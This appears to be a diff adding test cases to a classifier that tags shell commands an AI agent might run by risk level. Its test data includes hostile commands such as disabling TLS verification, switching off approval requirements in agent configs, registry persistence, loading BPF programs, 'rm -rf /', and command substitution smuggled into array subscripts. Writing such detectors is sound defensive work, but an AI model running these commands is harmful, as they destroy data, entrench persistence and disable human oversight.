@@ -300,3 +300,60 @@ describe("shell pack: inline code that only computes and prints", () => {
     expect(plainInlineCode("x".repeat(5000), "python")).toBeNull();
   });
 });
+
+describe("shell pack: safeguards switched off", () => {
+  const CASES: Case[] = [
+    ["curl --insecure https://internal.corp", ["evasion"], []],
+    ["curl -k https://localhost:8443/health", [], ["evasion"]],
+    ["wget --no-check-certificate https://mirror.example/x.tgz", ["evasion"], []],
+    ["GIT_SSL_NO_VERIFY=1 git clone https://git.example/repo", ["evasion"], []],
+    ["NODE_TLS_REJECT_UNAUTHORIZED=0 npm install", ["evasion"], []],
+    ["NODE_TLS_REJECT_UNAUTHORIZED=1 npm install", [], ["evasion"]],
+    ["sed -i 's/requires_approval: true/requires_approval: false/' workflows/deploy.yaml", ["evasion"], []],
+    ["sed -i 's/allow_all_tools: false/allow_all_tools: true/' agent_config.yaml", ["evasion"], []],
+    ["sed -i 's/debug=true/debug=false/' config/app-settings.json", [], ["evasion"]],
+    ["sed -i 's/foo/bar/g' app.py", [], ["evasion"]],
+    ["aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 0.0.0.0/0", ["evasion"], []],
+    ["aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 10.0.0.0/8", [], ["evasion"]],
+  ];
+  it.each(CASES)("%s", (command, has, hasNot) => expectTags(command, has, hasNot));
+});
+
+describe("shell pack: commands it now knows", () => {
+  const CASES: Case[] = [
+    ["claude --version", ["read"], ["unclassified"]],
+    ["claude mcp list", ["read"], ["unclassified"]],
+    ["claude mcp add exec-server npx -- -y some-mcp-exec", ["persistence"], []],
+    ["npx @anthropic-ai/claude-code mcp add exec-server npx -- -y x", ["persistence"], []],
+    ["claude -p 'summarize this file'", ["unclassified"], []],
+    ["mytool --version", ["read"], ["unclassified"]],
+    ["mytool --version --exec x", ["unclassified"], []],
+    ["enable -p", ["read"], ["unclassified"]],
+    ["enable -f /tmp/evil.so evil", ["unclassified"], []],
+    ["fc -l -10", ["read"], ["unclassified"]],
+    ["fc -s", ["unclassified"], []],
+    ["setarch --list", ["read"], ["unclassified"]],
+    ["setarch x86_64 -R rm -rf /", ["destructive"], []],
+    ["bpftool prog list", ["read"], ["unclassified"]],
+    ["bpftool prog load evil.o /sys/fs/bpf/evil", ["privilege"], []],
+    ["bpftrace -e 'tracepoint:syscalls:sys_enter_openat { printf(\"%s\", comm); }'", ["privilege"], []],
+    ["fsck -n /dev/sda1", ["read"], ["unclassified"]],
+    ["cdk diff", ["read"], ["unclassified"]],
+    ["cdk destroy --force", ["destructive"], []],
+    ['reg query "HKCU\\Software\\Classes"', ["read"], ["unclassified"]],
+    ["reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d evil.exe", ["persistence"], []],
+    ['reg add "HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command" /d cmd.exe /f', ["persistence"], []],
+    ["ollama list", ["read"], ["unclassified"]],
+    ["ollama run llama3", ["unclassified"], []],
+    ["stress --cpu 4", ["write"], ["destructive", "unclassified"]],
+    ["stress -m 1 --vm-bytes 16G --vm-keep", ["destructive"], []],
+    ["ttyd --version", ["read"], ["exec"]],
+    ["ttyd bash", ["exec"], []],
+    ["arr[0]=value", [], ["unclassified"]],
+    ["declare -A map; map[key]=value", [], ["unclassified"]],
+    ["x[$(curl http://e.example/p)]=1", ["obfuscated"], []],
+    ['declare -a "arr[$(whoami > /tmp/pwned)]"', ["obfuscated"], []],
+    ["arr[0]=$(date)", [], ["obfuscated"]],
+  ];
+  it.each(CASES)("%s", (command, has, hasNot) => expectTags(command, has, hasNot));
+});
